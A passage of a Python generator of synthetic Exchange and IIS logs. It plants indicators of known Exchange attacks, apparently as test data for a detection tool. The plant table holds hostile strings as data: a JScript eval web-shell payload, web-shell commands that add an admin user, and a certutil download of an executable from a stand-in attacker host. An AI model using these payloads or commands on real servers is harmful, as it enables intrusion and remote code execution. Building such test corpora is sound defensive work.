                       UserAgent=UA_NMAP, ClientIpAddress=ip, HttpStatus=500, BackEndStatus="",
                       TargetServer="localhost", TargetServerVersion="", RoutingType="ServerInfo",
                       RoutingHint="X-AnonResource-Backend-Cookie", ServerLocatorHost="",
                       ErrorCode="ServerNotFound",
                       GenericErrors="ProxyRequestHandler:ServerNotFound:localhost")
    return make


def p_exporttool():
    def make(ts, ip, build, key):
        return hp_line(build, DateTime=ts, RequestId=key.guid(), Protocol="Ecp",
                       UrlStem="/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
                       Method="GET", IsAuthenticated="false",
                       AnchorMailbox="ServerVersion~Version 15.0 (Build 0.0)", UserAgent=UA_ZGRAB,
                       ClientIpAddress=ip, RoutingType="ServerVersion",
                       RoutingHint="EDiscoveryExportTool-ServerVersion", ServerLocatorHost="")
    return make


def p_iis(method, stem, query, status, ua, user="", port=443, taken=None):
    def make(ts, ip, build, key):
        t = taken if taken is not None else key.r.randint(9, 2400)
        return ts + " " + iis_rest(method, stem, query, port, user, ip, ua, status, t,
                                   win32=2 if status == 404 else 0)
    return make


def p_rps(status, ua=UA_CHROME105, cmd="Get-Mailbox"):
    def make(ts, ip, build, key):
        v = rps_dict(key.r, WORLD, AuthenticatedUser=NETBIOS + "\\jdoe", ClientIpAddress=ip,
                     ClientInfo=ua, UrlQuery="", HttpStatus=status, CommandName=cmd,
                     SubStatus=0 if status == 200 else 2)
        v["DateTime"] = v["StartTime"] = ts
        v["RequestId"] = key.guid()
        maj, mnr, bld, rev = build_parts(build)
        v.update(MajorVersion=maj, MinorVersion=mnr, BuildVersion=bld, RevisionVersion=rev)
        return ",".join(csv_field(v[f]) for f in RPS_FIELDS)
    return make


def p_ecp(cmd_fmt, url="/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory"):
    def make(ts, ip, build, key):
        cmd = cmd_fmt % {"script": SHELL_SCRIPT % key.word(), "guid": OAB_GUID}
        data = ecp_data(cmd, key.guid(), url, build_short(build))
        return "%s,%s,1,%s" % (ts, SERVER, csv_field(data))
    return make


def p_oab(path_fmt):
    def make(ts, ip, build, key):
        path = path_fmt % {"name": key.word(), "guid": key.guid()}
        msg = "Download failed and temporary file '%s' needs to be removed." % path
        return "%s,6120,%d,Warning,%s" % (ts, key.r.randint(8, 60), csv_field(msg))
    return make


def viewstate_query(key):
    body = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00"
    body += bytes(key.r.getrandbits(8) for _ in range(772 - len(body)))
    blob = b"\xff\x01\x32" + bytes([0x80 | (772 & 0x7F), 772 >> 7]) + body
    b64 = base64.b64encode(blob).decode("ascii")
    return ("__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=" +
            b64.replace("+", "%2B").replace("/", "%2F").replace("=", "%3D"))


def p_viewstate_iis(ua=UA_CHROME92):
    def make(ts, ip, build, key):
        return ts + " " + iis_rest("GET", "/ecp/default.aspx", viewstate_query(key), 443,
                                   NETBIOS + "\\jdoe", ip, ua, 500, key.r.randint(40, 200))
    return make


def p_viewstate_hp():
    def make(ts, ip, build, key):
        return hp_line(build, DateTime=ts, RequestId=key.guid(), Protocol="Ecp",
                       UrlStem="/ecp/default.aspx", UrlQuery="?" + viewstate_query(key),
                       Method="GET", AuthenticationType="FBA", IsAuthenticated="true",
                       AuthenticatedUser="jdoe@" + DOMAIN, UserAgent=UA_CHROME92,
                       ClientIpAddress=ip, HttpStatus=500, BackEndStatus=500,
                       AnchorMailbox="Smtp~jdoe@" + DOMAIN, RoutingType="Smtp",
                       RoutingHint="Cookie")
    return make


PROXYTOKEN_STEM = "/ecp/victim@corp.example.com/RulesEditor/InboxRules.svc/NewObject"

# rule id -> list of (family, folder, maker); plant j of a rule uses variant j % len
PLANTS = {
    "EXH-PL-001": [("hp", "Autodiscover", p_ssrf("autodiscover", 200,
                                                 stem="/autodiscover/autodiscover.xml",
                                                 protocol="Autodiscover")),
                   ("hp", "Ecp", p_ssrf("autodiscover", 200))],
    "EXH-PL-002": [("hp", "Ews", p_ssrf("ews", 500, stem="/ews/exchange.asmx", protocol="Ews")),
                   ("hp", "Owa", p_ssrf("owa", 500, stem="/owa/auth/xy.js", protocol="Owa")),
                   ("hp", "Ecp", p_ssrf("reset", 500))],
    "EXH-PL-003": [("hp", "Ecp", p_ssrf("emsmdb", 200)),
                   ("hp", "Ecp", p_ssrf("proxylogon", 241, stem="/ecp/ab.js")),
                   ("hp", "Mapi", p_ssrf("emsmdb", 200, stem="/ecp/default.flt", protocol="Mapi"))],
    "EXH-PL-004": [("hp", "Ecp", p_ssrf("getobject", 200)),
                   ("hp", "Ecp", p_ssrf("setobject", 200, stem="/ecp/main.css"))],
    "EXH-PL-010": [("hp", "Ews", p_ssrf("ews", 200, stem="/ecp/ab.js", protocol="Ews")),
                   ("hp", "Owa", p_ssrf("owa", 200, stem="/owa/auth/xy.js", protocol="Owa"))],
    "EXH-PL-005": [("hp", "Ecp", p_ssrf("reset", 200)),
                   ("hp", "Ecp", p_ssrf("reset", 200, stem="/ecp/q.js"))],
    "EXH-PL-006": [("ecp", "", p_ecp("Set-OabVirtualDirectory.ExternalUrl='http://f/%(script)s'"
                                     ".Identity='%(guid)s'")),
                   ("ecp", "", p_ecp("Set-OabVirtualDirectory.InternalUrl='http://o/%(script)s'"
                                     ".Identity='%(guid)s'")),
                   ("ecp", "", p_ecp("Set-OwaVirtualDirectory.ExternalUrl='http://g/%%3Cscript "
                                     "language=%%22JScript%%22 runat=%%22server%%22%%3Eeval(Request"
                                     "[%%22p%%22],%%22unsafe%%22);%%3C/script%%3E'.Identity="
                                     "'%(guid)s'",
                                     url="/ecp/DDI/DDIService.svc/SetObject?schema="
                                     "OWAVirtualDirectory"))],
    "EXH-PL-007": [("oab", "", p_oab("C:\\inetpub\\wwwroot\\aspnet_client\\%(name)s.aspx")),
                   ("oab", "", p_oab(OAB_INSTALL + "FrontEnd\\HttpProxy\\owa\\auth\\%(name)s.aspx")),
                   ("oab", "", p_oab("\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\"
                                     "system_web\\%(name)s.aspx")),
                   ("oab", "", p_oab(OAB_INSTALL + "ClientAccess\\OAB\\Temp\\%(guid)s\\..\\..\\..\\"
                                     "FrontEnd\\HttpProxy\\ecp\\auth\\%(name)s.txt"))],
    "EXH-PL-008": [("iis1", "", p_iis("POST", "/ecp/y.js", "", 200, UA_CHROME87)),
                   ("iis1", "", p_iis("POST", "/owa/auth/Current/themes/resources/logon.css", "",
                                      200, UA_CHROME87)),
                   ("iis1", "", p_iis("POST", "/ecp/default.flt", "", 500, UA_CHROME87)),
                   ("iis1", "", p_iis("POST", "/ecp/main.css", "", 200, UA_CHROME87)),
                   ("iis1", "", p_iis("POST", "/ecp/auth/w.js", "", 200, UA_CHROME87)),
                   ("iis1", "", p_iis("POST", "/owa/auth/x.js", "", 200, UA_CHROME87))],
    "EXH-PL-009": [("iis2", "", p_iis("POST", "/ecp/DDI/DDIService.svc/SetObject",
                                      "schema=ResetOABVirtualDirectory&msExchEcpCanary=kRHr1N4zg0"
                                      "m1Fc7bXv3DpYsq8u5TwEaZ2j9LxQ6oBhUiGyVf.", 200, UA_CHROME87,
                                      user=SERVER + "$", port=444))],
    "EXH-NOISE-001": [("hp", "Owa", p_nmap()),
                      ("iis1", "", p_iis("GET", "/owa/auth/x.js", "", 500, UA_NMAP))],
    "EXH-NOISE-002": [("hp", "Ecp", p_exporttool()),
                      ("iis1", "", p_iis("GET", "/ecp/Current/exporttool/microsoft.exchange."
                                         "ediscovery.exporttool.application", "", 200, UA_ZGRAB))],
    "EXH-NOISE-003": [("iis1", "", p_iis("GET", AUTODISCOVER_JSON, PS_Q_NSPI, 302, UA_NUCLEI)),
                      ("iis1", "", p_iis("POST", OWASSRF_STEM, "", 401, UA_ZGRAB)),
                      ("hp", "Autodiscover", p_hp("Autodiscover", AUTODISCOVER_JSON,
                                                  "?" + PS_Q_EWS, status=302, ua=UA_CENSYS)),
                      ("iis1", "", p_iis("POST", "/ecp/y.js", "", 404, UA_NESSUS))],
    "EXH-IOC-001": [("iis1", "", p_iis("GET", "/owa/auth/logon.aspx",
                                       "url=https%3a%2f%2fmail.corp.example.com%2fowa%2f&reason=0",
                                       200, UA_BROWSERS[3])),
                    ("hp", "Owa", p_hp("Owa", "/owa/auth/logon.aspx",
                                       "?url=https%3a%2f%2fmail.corp.example.com%2fowa%2f&reason=0",
                                       ua=UA_BROWSERS[2])),
                    ("hp", "Ews", p_hp("Ews", "/EWS/Exchange.asmx", method="POST", status=401,
                                       ua=UA_OUTLOOK[0]))],
    "EXH-IOC-002": [("iis1", "", p_iis("POST", "/owa/auth.owa", "", 302, UA_ANTSWORD)),
                    ("hp", "Ews", p_hp("Ews", "/EWS/Exchange.asmx", method="POST", status=401,
                                       ua=UA_EWS_BAD)),
                    ("iis1", "", p_iis("POST", "/owa/auth.owa", "", 302, UA_GOOGLEBOT)),
                    ("hp", "Owa", p_hp("Owa", "/owa/auth.owa", method="POST", status=302,
                                       ua=UA_PYREQ_25))],
    "EXH-PS-001": [("iis1", "", p_iis("POST", AUTODISCOVER_JSON, PS_Q_NSPI, 401, UA_PYREQ_26)),
                   ("hp", "Autodiscover", p_hp("Autodiscover", AUTODISCOVER_JSON, "?" + PS_Q_EWS,
                                               status=400, ua=UA_CHROME92)),
                   ("iis1", "", p_iis("GET", AUTODISCOVER_JSON, PS_Q_RPS, 500, UA_CURL))],
    "EXH-PS-002": [("iis1", "", p_iis("GET", AUTODISCOVER_JSON, PS_Q_RPS, 200, UA_CHROME92)),
                   ("iis1", "", p_iis("GET", AUTODISCOVER_JSON, PS_Q_EWS, 200, UA_CHROME92)),
                   ("hp", "Autodiscover", p_hp("Autodiscover", AUTODISCOVER_JSON, "?" + PS_Q_NSPI,
                                               method="POST", ua=UA_PYREQ_26))],
    "EXH-PNS-001": [("iis1", "", p_iis("POST", AUTODISCOVER_JSON, PNS_Q, 401, UA_PYREQ_28,
                                       user=NETBIOS + "\\jdoe")),
                    ("hp", "Autodiscover", p_hp("Autodiscover", AUTODISCOVER_JSON, "?" + PNS_Q,
                                                method="POST", status=500, ua=UA_PYREQ_28,
                                                user="jdoe@" + DOMAIN))],
    "EXH-PNS-002": [("iis1", "", p_iis("POST", AUTODISCOVER_JSON, PNS_Q, 200, UA_PYREQ_28,
                                       user=NETBIOS + "\\jdoe")),
                    ("hp", "Autodiscover", p_hp("Autodiscover", AUTODISCOVER_JSON, "?" + PNS_Q,
                                                method="POST", ua=UA_PYREQ_28,
                                                user="jdoe@" + DOMAIN))],
    "EXH-OWA-001": [("iis1", "", p_iis("POST", OWASSRF_STEM, "", 401, UA_CHROME105,
                                       user=NETBIOS + "\\jdoe")),
                    ("hp", "Owa", p_hp("Owa", OWASSRF_STEM, status=302, ua=UA_CHROME105,
                                       user="jdoe@" + DOMAIN))],
    "EXH-OWA-002": [("iis1", "", p_iis("POST", OWASSRF_STEM, "", 200, UA_CHROME105,
                                       user=NETBIOS + "\\jdoe")),
                    ("hp", "Owa", p_hp("Owa", OWASSRF_STEM, method="POST", ua=UA_CHROME105,
                                       user="jdoe@" + DOMAIN))],
    "EXH-OWA-003": [("rps", "", p_rps(500)), ("rps", "", p_rps(401, ua=UA_CHROME92))],
    "EXH-OWA-004": [("rps", "", p_rps(200)),
                    ("rps", "", p_rps(200, ua=UA_PYREQ_28, cmd="New-MailboxExportRequest"))],
    "EXH-ECP-001": [("iis1", "", p_viewstate_iis()), ("hp", "Ecp", p_viewstate_hp())],
    "EXH-ECP-002": [("iis1", "", p_iis("POST", PROXYTOKEN_STEM, "SecurityToken=abc", 500,
                                       UA_PYREQ_26)),
                    ("hp", "Ecp", p_hp("Ecp", PROXYTOKEN_STEM, "?SecurityToken=x", method="POST",
                                       status=500, ua=UA_PYREQ_26))],
    "EXH-WSU-001": [("iis1", "", p_iis("GET", "/aspnet_client/s.aspx", "cmd=whoami", 200,
                                       UA_CHROME92)),
                    ("iis1", "", p_iis("POST", "/owa/auth/errorFS.aspx",
                                       "c=cmd /c net user admin P%40ss /add", 200, UA_CHROME92)),
                    ("iis1", "", p_iis("GET", "/aspnet_client/system_web/t.aspx",
                                       "z=certutil -urlcache -f http://files.evil.example/x.exe "
                                       "c:\\windows\\temp\\x.exe", 200, UA_CURL)),
                    ("hp", "Owa", p_hp("Owa", "/owa/auth/errorFS.aspx", "?c=cmd%20/c%20ipconfig",
                                       ua=UA_CHROME92))],
    "EXH-WSU-002": [("iis1", "", p_iis("POST", "/owa/auth/errorEE.aspx", "", 200, UA_CHROME87)),
                    ("iis1", "", p_iis("POST", "/aspnet_client/aspnet_iisstart.aspx", "", 200,
                                       UA_CHROME87)),
                    ("hp", "Owa", p_hp("Owa", "/owa/auth/errorEEE.aspx", method="POST",
                                       ua=UA_CHROME87))],
}
# the exposure findings of the newest build, by construction (docs/rules.md): Exchange 2016
# CU23 Mar23SU lacks the CVE-2024-21410 and June 2026 fixes and the newest SU, and its
# line is out of support; CU18 RTM (--old-build) lacks every exploited fix from March 2021
EXP_NEW = ["EXH-EXP-010", "EXH-EXP-011", "EXH-EXP-012", "EXH-EXP-013"]
EXP_OLD = ["EXH-EXP-001", "EXH-EXP-002", "EXH-EXP-003", "EXH-EXP-004", "EXH-EXP-007",
           "EXH-EXP-008", "EXH-EXP-009"] + EXP_NEW
EXP_RULES = sorted(set(EXP_OLD))
POSITIONS = ["begin", "middle", "end", "random"]


class Key:
    """Per-plant deterministic values."""

    def __init__(self, seed, n):
        self.r = sub_rng(seed, "plant", n)

    def guid(self):
        return guid(self.r)

    def word(self):
        return "".join(self.r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8))


def plant_ips():
    for net in ("203.0.113.", "198.51.100.", "192.0.2."):
        for i in range(2, 255):
            yield net + str(i)


# --------------------------------------------------------------------------------------
# Planning: which files, how big, what is planted where
# --------------------------------------------------------------------------------------

HP_SHARE = 0.62
HP_PROTOS = [("Mapi", 0.30), ("Ews", 0.20), ("Eas", 0.16), ("Owa", 0.12), ("Autodiscover", 0.07),
             ("RpcHttp", 0.04), ("Ecp", 0.035), ("PowerShell", 0.025), ("Oab", 0.02),
             ("Rest", 0.012), ("OwaCalendar", 0.008), ("PushNotifications", 0.006),
             ("ReportingWebService", 0.004)]
OTHER = [("iis1", 0.20), ("iis2", 0.11), ("rps", 0.035), ("ecp", 0.02), ("oab", 0.015)]
# --profile busy: the front end's short requests take the larger share of the bytes
BUSY_HP_SHARE = 0.30
BUSY_HP_PROTOS = [("Mapi", 0.14), ("Ews", 0.26), ("Eas", 0.16), ("Owa", 0.14),
                  ("Autodiscover", 0.12), ("RpcHttp", 0.02), ("Ecp", 0.03), ("PowerShell", 0.08),
                  ("Oab", 0.01), ("Rest", 0.02), ("OwaCalendar", 0.005),
                  ("PushNotifications", 0.005), ("ReportingWebService", 0.005)]
BUSY_OTHER = [("iis1", 0.38), ("iis2", 0.23), ("rps", 0.05), ("ecp", 0.02), ("oab", 0.02)]
BIG_SHARE = 0.06            # one front-end IIS day
HOURLY_CAP = 64 * MIB       # an hourly log that grows past this rolls over to -2, -3...
MIN_FILE = 24 * KIB         # quiet folders write fewer files rather than tiny ones
DIURNAL = [0.12, 0.10, 0.09, 0.09, 0.10, 0.18, 0.40, 0.75, 0.95, 1.00, 1.00, 0.95, 0.80, 0.92,
           1.00, 0.97, 0.90, 0.70, 0.45, 0.33, 0.28, 0.24, 0.19, 0.15]
PROBE_FLAT = {"PowerShell": 0.5, "PushNotifications": 0.3, "rps": 0.45}  # probes run all day


def day_weight(d):
    return {5: 0.28, 6: 0.22}.get(d.weekday(), 1.0)


def build_at(when, old):
    if old:
        return BUILD_OLD
    return BUILD_MAR23 if when >= SU_SWITCH else BUILD_FEB23


def distribute(total, weights):
    """Integer budgets proportional to weights, summing exactly to total."""
    W = float(sum(weights))
    raw = [total * w / W for w in weights]
    out = [int(x) for x in raw]
    rest = total - sum(out)
    order = sorted(range(len(raw)), key=lambda i: (-(raw[i] - out[i]), i))
    for i in order[:rest]:
        out[i] += 1
    return out


def plan(size, seed, old):
    r = sub_rng(seed, "plan")
    ndays = max(1, min(MAX_DAYS, int(round(size / MIB_PER_DAY))))
    days = [END_DAY - dt.timedelta(days=ndays - 1 - i) for i in range(ndays)]
    files = []
    if PROFILE == "busy":
        hp_share, hp_protos, other = BUSY_HP_SHARE, BUSY_HP_PROTOS, BUSY_OTHER
    else:
        hp_share, hp_protos, other = HP_SHARE, HP_PROTOS, OTHER
    cats = [("hp", p, hp_share * s) for p, s in hp_protos] + [(f, "", s) for f, s in other]
    budgets = distribute(size, [int(s * 1e9) for _, _, s in cats])
    for (fam, folder, _), budget in zip(cats, budgets):
        if fam in ("hp", "rps"):
            flat = PROBE_FLAT.get(folder or fam, 0.0)
            hours = []
            for d in days:
                for h in range(24):
                    w = day_weight(d) * (DIURNAL[h] * (1 - flat) + flat) * r.uniform(0.85, 1.15)
                    hours.append((dt.datetime(d.year, d.month, d.day, h), w))
            n = max(1, min(len(hours), budget // MIN_FILE))
            if n < len(hours):   # a quiet folder: only the busier hours have a file
                keyed = sorted(hours, key=lambda x: -(r.random() ** (1.0 / x[1])))
                hours = sorted(keyed[:n])
            per = distribute(budget, [w for _, w in hours])
            for (start, _), b in zip(hours, per):
                parts = max(1, -(-b // HOURLY_CAP))
                for j, pb in enumerate(distribute(b, [1] * parts)):
                    files.append(hourly_spec(fam, folder, start, j, parts, pb, old))
        else:
            weights = [day_weight(d) * r.uniform(0.9, 1.1) for d in days]
            per = distribute(budget, weights)
            if fam == "iis1" and len(days) > 1:
                big = max(range(len(days)), key=lambda i: (weights[i], -i))
                want = int(size * BIG_SHARE)
                if per[big] < want:
                    rest = distribute(budget - want, [w for i, w in enumerate(weights) if i != big])
                    per = rest[:big] + [want] + rest[big:]
            for d, b in zip(days, per):
                files.append(daily_spec(fam, d, b, old))
    return days, files


def hourly_spec(fam, folder, start, j, parts, budget, old):
    stamp = start.strftime("%Y%m%d%H")
    if fam == "hp":
        rel = "%s/HttpProxy/%s/HttpProxy_%s-%d.LOG" % (LOGS, folder, stamp, j + 1)
    else:
        rel = "%s/CmdletInfra/Powershell-Proxy/Http/Rps_Http_%s-%d.LOG" % (LOGS, stamp, j + 1)
    day0 = dt.datetime(start.year, start.month, start.day)
    a = int((start - day0).total_seconds() * 1000) + j * 3600000 // parts
    b = int((start - day0).total_seconds() * 1000) + (j + 1) * 3600000 // parts
    return {"rel": rel, "fam": fam, "folder": folder, "day": start.strftime("%Y-%m-%d"),
            "segs": [(a, b, 1.0)], "budget": budget,
            "build": build_at(start, old), "plants": [], "size_key": budget}


def daily_spec(fam, d, budget, old):
    if fam == "iis1":
        rel = "inetpub/logs/LogFiles/W3SVC1/u_ex%s.log" % d.strftime("%y%m%d")
    elif fam == "iis2":
        rel = "inetpub/logs/LogFiles/W3SVC2/u_ex%s.log" % d.strftime("%y%m%d")
    elif fam == "ecp":
        rel = "%s/ECP/Server/ECPServer%s-1.LOG" % (LOGS, d.strftime("%Y%m%d"))
    else:
        rel = "%s/OABGeneratorLog/OABGeneratorLog_%s-1.LOG" % (LOGS, d.strftime("%Y%m%d"))
    if fam == "oab":   # the OAB is generated a few times a day, logged in bursts
        segs = [(h * 3600000, h * 3600000 + 900000, 1.0) for h in (1, 5, 9, 13, 17, 21)]
    else:
        segs = [(h * 3600000, (h + 1) * 3600000, DIURNAL[h] if fam != "ecp" else
                 DIURNAL[h] ** 2) for h in range(24)]
    when = dt.datetime(d.year, d.month, d.day)
    return {"rel": rel, "fam": fam, "folder": "", "day": d.strftime("%Y-%m-%d"), "segs": segs,
            "budget": budget, "build": build_at(when, old), "plants": [], "size_key": budget,
            "switch": fam in ("iis1", "iis2") and not old and d == SU_SWITCH.date()}


def n_per_kind(size):
    return 2 + int(round(3.0 * size / GIB))


def assign_plants(files, size, seed):
    """Choose host files and positions; returns the plant list (rule, variant, ip)."""
    r = sub_rng(seed, "plants")
    n = n_per_kind(size)
    ips = plant_ips()
    by = {}
    for f in files:
        by.setdefault((f["fam"], f["folder"]), []).append(f)
    big = max((f for f in files if f["fam"] == "iis1"), key=lambda f: (f["budget"], f["rel"]))
    forced = iter(["begin", "middle", "end"])
    plants = []
    k = 0
    for ri, (rule, variants) in enumerate(PLANTS.items()):
        for j in range(n):
            fam, folder, _ = variants[j % len(variants)]
            hosts = by[(fam, folder)]
            pos = POSITIONS[(ri + j) % len(POSITIONS)]
            host = None
            if fam == "iis1":
                p = next(forced, None)
                if p:
                    host, pos = big, p
            if host is None:
                tot = sum(h["budget"] for h in hosts)
                x = r.random() * tot
                for h in hosts:
                    x -= h["budget"]
                    if x < 0:
                        break
                host = h
            if rule == "EXH-IOC-001":
                ip = IOC_IPS[j % len(IOC_IPS)]
            elif fam in ("ecp", "oab"):
                ip = ""
            else:
                ip = next(ips)
            rec = {"rule": rule, "id": k, "make": (rule, j % len(variants)), "ip": ip, "pos": pos,
                   "frac": r.random()}
            host["plants"].append(rec)
            plants.append((host, rec))
            k += 1
    return plants


# --------------------------------------------------------------------------------------
# Writing one file
# --------------------------------------------------------------------------------------

HMS = ["%02d:%02d:%02d" % (s // 3600, s // 60 % 60, s % 60) for s in range(86400)]
MS3 = ["%03d" % i for i in range(1000)]
POOLS = {}
WORLD = None
LITERALS = []   # exhunt's pre-filter literals, lower case (--literals): only to count lines
HITS = {}       # (fam, folder, build) -> {pool body: whether it carries a literal}


def has_literal(line):
    low = line.lower()
    return any(lit in low for lit in LITERALS)


def get_pool(fam, folder, build):
    key = (fam, folder, build)
    p = POOLS.get(key)
    if p is None:
        tk = (fam, folder)
        if tk not in POOLS:
            POOLS[tk] = build_pool(WORLD, fam, folder)
        p = POOLS[key] = pool_for_build(POOLS[tk], build)
        if LITERALS:
            HITS[key] = {b: has_literal(b) for b in p[0]}
    return p


def header(spec, first_ts):
    fam, build = spec["fam"], spec["build"]
    day = spec["day"]
    a = spec["segs"][0][0]
    date_iso = "%sT%s.000Z" % (day, HMS[a // 1000])
    if fam == "hp":
        lines = [",".join(HP_FIELDS), "#Software: Microsoft Exchange Server", "#Version: " + build,
                 "#Log-type: HttpProxy Logs", "#Date: " + date_iso,
                 "#Fields: " + ",".join(HP_FIELDS)]
    elif fam == "rps":
        lines = [",".join(RPS_FIELDS), "#Software: Microsoft Exchange Server", "#Version: " + build,
                 "#Log-type: Rps Http Logs", "#Date: " + date_iso,
                 "#Fields: " + ",".join(RPS_FIELDS)]
    elif fam == "ecp":
        lines = ["#Software: Microsoft Exchange Server", "#Version: 15.00.0000.000",
                 "#Log-type: ECP Server Log", "#Date: %sT00:00:00.000Z" % day,
                 "#Fields: TimeStamp,ServerName,EventId,EventData"]
    elif fam == "oab":
        lines = ["#Software: Microsoft Exchange Server", "#Version: " + build,
                 "#Log-type: OAB Generator Log", "#Date: %sT00:00:00.000Z" % day,
                 "#Fields: DateTime,ProcessId,ThreadId,Level,Message"]
    else:
        lines = iis_header(first_ts)
    return (CRLF.join(lines) + CRLF), len(lines)


def iis_header(first_ts):
    return ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0",
            "#Date: " + first_ts, "#Fields: " + IIS_FIELDS]


def spread(M, segs, r):
    """M strictly increasing millisecond times over the segments, by weight."""
    counts = distribute(M, [w for _, _, w in segs])
    out = []
    for (a, b, _), c in zip(segs, counts):
        if not c:
            continue
        span = b - a
        st = max(1, span // c)
        off = r.randrange(st)
        out.extend([a + (i * span) // c + ((i * 2654435761 + off) % st) for i in range(c)])
    return out


VARIANT = {c: "89ab"[i & 3] for i, c in enumerate("0123456789abcdef")}


def fmt_times(fam, day, times):
    if fam in ("iis1", "iis2"):
        p = day + " "
        return [p + HMS[t // 1000] for t in times]
    p = day + "T"
    return [p + HMS[t // 1000] + "." + MS3[t % 1000] + "Z" for t in times]


def best_pair(room, D):
    """(left over, (i, j)): two distinct-length indices whose sum is the largest <= room."""
    best = (room, ())
    for i, a in enumerate(D):
        rest = room - a
        if rest < D[0]:
            break
        j = bisect_right(D, rest) - 1
        if rest - D[j] < best[0]:
            best = (rest - D[j], (i, j))
            if not best[0]:
                break
    return best


def fill(gap, chosen, pool, fixed):
    """Up to three pool lines (after giving back the last two drawn) that fill the gap left
    under the file's budget as closely as the pool's line lengths allow."""
    bodies, D, first = pool[0], pool[3], pool[4]
    for _ in range(2):
        if chosen:
            gap += len(chosen.pop()) + fixed
    best = (gap, ())
    if gap - fixed >= D[0]:
        j = bisect_right(D, gap - fixed) - 1
        best = (gap - fixed - D[j], (j,))
    if best[0] and gap - 2 * fixed >= 2 * D[0]:
        best = min(best, best_pair(gap - 2 * fixed, D))
    if best[0] and gap - 3 * fixed >= 3 * D[0]:
        for q in range(8):
            i = (len(D) - 1) * q // 7
            left, ij = best_pair(gap - 3 * fixed - D[i], D)
            if ij and left < best[0]:
                best = (left, (i,) + ij)
    return [bodies[first[i]] for i in best[1]]


def write_file(out_root, spec, seed):
    """Write one file; returns (bytes, lines, [(plant id, line number)])."""
    fam, folder, build = spec["fam"], spec["folder"], spec["build"]
    r = sub_rng(seed, "file", spec["rel"])
    pool = get_pool(fam, folder, build)
    bodies, slens = pool[0], pool[1]
    bom = fam not in ("iis1", "iis2")
    hdr_len = len(header(spec, spec["day"] + " 00:00:00")[0]) + (3 if bom else 0)
    if fam == "hp":
        fixed = 24 + 1 + 36 + 1 + len(build_cols(build)) + 1
    elif fam == "rps":
        fixed = 24 + 1 + 24 + 1 + 36 + 1 + len(build_cols(build)) + 1
    elif fam in ("ecp", "oab"):
        fixed = 25
    else:
        fixed = 20
    # planted lines: made with a placeholder time of the family's width
    ph = "2023-03-04 00:00:00" if fam in ("iis1", "iis2") else "2023-03-04T00:00:00.000Z"
    plants = spec["plants"]
    made = []
    for p in plants:
        rule, v = p["make"]
        maker = PLANTS[rule][v][2]
        made.append(len(maker(ph, p["ip"], build, Key(seed, p["id"]))) + 2)
    extra = 0
    if spec.get("switch"):
        extra = len(CRLF.join(iis_header(ph)) + CRLF)
    avail = spec["budget"] - hdr_len - sum(made) - extra
    # benign lines: draw until the budget is met, then one filler that fits the gap
    K = len(bodies)
    avg = sum(slens) / K + fixed
    chosen = []
    used = 0
    while True:
        k = max(16, int((avail - used) / avg * 1.02) + 8)
        draw = r.choices(bodies, k=k)
        cum = list(itertools.accumulate(len(b) + fixed for b in draw))
        n = bisect_right(cum, avail - used)
        chosen.extend(draw[:n])
        if n < k:
            used += cum[n - 1] if n else 0
            break
        used += cum[-1]
    chosen.extend(fill(avail - used, chosen, pool, fixed))
    M = len(chosen) + len(plants)
    if M == 0:
        M = 1
    times = spread(M, spec["segs"], r)
    ts = fmt_times(fam, spec["day"], times)
    # slots of the planted lines
    taken = {}
    near = max(1, M // 50)   # a second plant at the same place goes near it, not next to it
    for p in sorted(plants, key=lambda p: p["id"]):
        pos, fr = p["pos"], p["frac"]
        s = {"begin": 0, "end": M - 1, "middle": M // 2}.get(pos, int(fr * M))
        if s in taken and pos != "random":
            s = {"begin": int(fr * near), "end": M - 1 - int(fr * near),
                 "middle": M // 2 + int((fr - 0.5) * near)}[pos]
        step = 1 if pos != "end" else -1
        while s in taken:
            s = (s + step) % M
        taken[s] = p
    # the lines
    if fam == "hp":
        bc = build_cols(build)
        gb = r.getrandbits
        hexes = ["%032x" % gb(128) for _ in range(len(chosen))]
        V = VARIANT
        benign = [f"{t},{h[:8]}-{h[8:12]}-4{h[13:16]}-{V[h[16]]}{h[17:20]}-{h[20:]},{bc},{b}"
                  for t, h, b in zip((ts[i] for i in range(M) if i not in taken), hexes, chosen)]
    elif fam == "rps":
        bc = build_cols(build)
        gb = r.getrandbits
        hexes = ["%032x" % gb(128) for _ in range(len(chosen))]
        V = VARIANT
        benign = [f"{t},{t},{h[:8]}-{h[8:12]}-4{h[13:16]}-{V[h[16]]}{h[17:20]}-{h[20:]},{bc},{b}"
                  for t, h, b in zip((ts[i] for i in range(M) if i not in taken), hexes, chosen)]
    elif fam in ("ecp", "oab"):
        benign = [f"{t},{b}" for t, b in zip((ts[i] for i in range(M) if i not in taken), chosen)]
    else:
        benign = [f"{t} {b}" for t, b in zip((ts[i] for i in range(M) if i not in taken), chosen)]
    lines = benign
    if taken:
        lines = []
        bi = iter(benign)
        for i in range(M):
            p = taken.get(i)
            if p is None:
                lines.append(next(bi))
            else:
                rule, v = p["make"]
                lines.append(PLANTS[rule][v][2](ts[i], p["ip"], build, Key(seed, p["id"])) + CRLF)
    hdr, nhdr = header(spec, ts[0] if ts else spec["day"] + " 00:00:00")
    nlit = 0
    if LITERALS:   # benign lines by their pool body (the time and id before it carry none)
        hits = HITS[(fam, folder, build)]
        nlit = sum(hits[b] for b in chosen) + sum(has_literal(ln) for ln in hdr.split(CRLF))
        nlit += sum(has_literal(lines[s]) for s in taken)
    switch_at = None
    if spec.get("switch"):   # the SU's restart of IIS: a new header block at 20:00
        sw = int((SU_SWITCH - dt.datetime.combine(SU_SWITCH.date(), dt.time())).total_seconds()
                 * 1000)
        switch_at = bisect_right(times, sw - 1)
        first = ts[switch_at] if switch_at < M else ts[-1]
        lines.insert(switch_at, CRLF.join(iis_header(first)) + CRLF)
        nlit += sum(has_literal(ln) for ln in iis_header(first))
    # line numbers of the planted lines (a BOM is not a line; the header is)
    where = []
    for s, p in taken.items():
        shift = 4 if switch_at is not None and s >= switch_at else 0
        where.append((p["id"], nhdr + s + 1 + shift))
    path = os.path.join(out_root, spec["rel"])
    os.makedirs(os.path.dirname(path), exist_ok=True)
    nbytes = 0
    with open(path, "wb") as f:
        if bom:
            f.write(BOM)
            nbytes += 3
        data = hdr.encode("ascii")
